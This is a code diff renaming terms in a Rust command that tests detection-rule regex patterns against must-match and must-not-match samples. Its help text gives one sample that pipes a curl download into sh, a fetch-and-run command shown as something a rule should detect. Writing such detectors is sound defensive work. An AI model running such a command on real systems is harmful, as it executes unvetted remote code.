@@ -1,4 +1,4 @@
-//! `rulesyncd test`: the patterns of rules are tried on samples.
+//! `rulesyncd test`: the patterns of rules are run on samples.
 
 mod engine;
 mod files;
@@ -17,7 +17,7 @@ use engine::{Engine, SearchError};
 use files::{Targets, Test};
 use report::{Report, Verdict};
 
-/// Try the patterns of rules on samples that they must match and must not match
+/// Run the patterns of rules on samples that they must match and must not match
 #[derive(Debug, Args)]
 #[command(
     after_help = "Example: rulesyncd test rules/\n\nThe samples of rules/NAME.yaml are in rules/NAME.test.yaml:\n\n  must_match:\n  - curl -s http://198.51.100.7/x | sh\n  must_not_match:\n  - curl -O http://198.51.100.7/x\n\nA sample matches if one of the rule's patterns is found in it, as by re.search. Where a rule has patterns for several fields, each sample names its own: `- url: http://198.51.100.7/x`.\n\nExit codes: 0 every sample is as expected, 1 one is not or a file is invalid, 2 usage, 3 a path could not be read, there is no test, or a pattern needs Python."
@@ -26,7 +26,7 @@ pub struct TestArgs {
     /// Directories of rules, rule files, or test files
     #[arg(required = true)]
     paths: Vec<PathBuf>,
-    /// The Python interpreter whose `re` tries the patterns; where none is named, python3, and without it the
+    /// The Python interpreter whose `re` runs the patterns; where none is named, python3, and without it the
     /// Rust crate fancy-regex
     #[arg(long, value_name = "PROGRAM")]
     python: Option<PathBuf>,
@@ -46,8 +46,8 @@ pub(crate) fn run(args: TestArgs) -> Outcome {
     if report.failed > 0 || report.invalid > 0 {
         return Err(Failure::CheckFailed);
     }
-    if report.untried > 0 {
-        let reason = "not every sample was tried: name a Python interpreter with --python";
+    if report.not_run > 0 {
+        let reason = "not every sample was run: name a Python interpreter with --python";
         return Err(Failure::Environment(anyhow::anyhow!(reason)));
     }
     Ok(())
@@ -70,7 +70,7 @@ fn run_one(test: &Test, engine: &mut Engine, report: &mut Report) -> Outcome {
     };
     let patterns = FieldPattern::all(&rule.definition.match_spec);
     if patterns.is_empty() {
-        report.reject(&test.path, "the rule has no `pattern` that a sample could be tried on");
+        report.reject(&test.path, "the rule has no `pattern` that a sample could be run on");
         return Ok(());
     }
     let text = read(&test.path)?;
@@ -100,7 +100,7 @@ fn judge<'p>(
             Ok(None) => {}
             Ok(Some(found)) => return Ok(Verdict::Found { pattern, found }),
             Err(SearchError::Wrong(reason)) => return Ok(Verdict::Wrong { pattern, reason }),
-            Err(SearchError::NeedsPython(reason)) => return Ok(Verdict::Untried { pattern, reason }),
+            Err(SearchError::NeedsPython(reason)) => return Ok(Verdict::NotRun { pattern, reason }),
             Err(SearchError::Engine(error)) => return Err(Failure::Environment(error)),
         }
     }
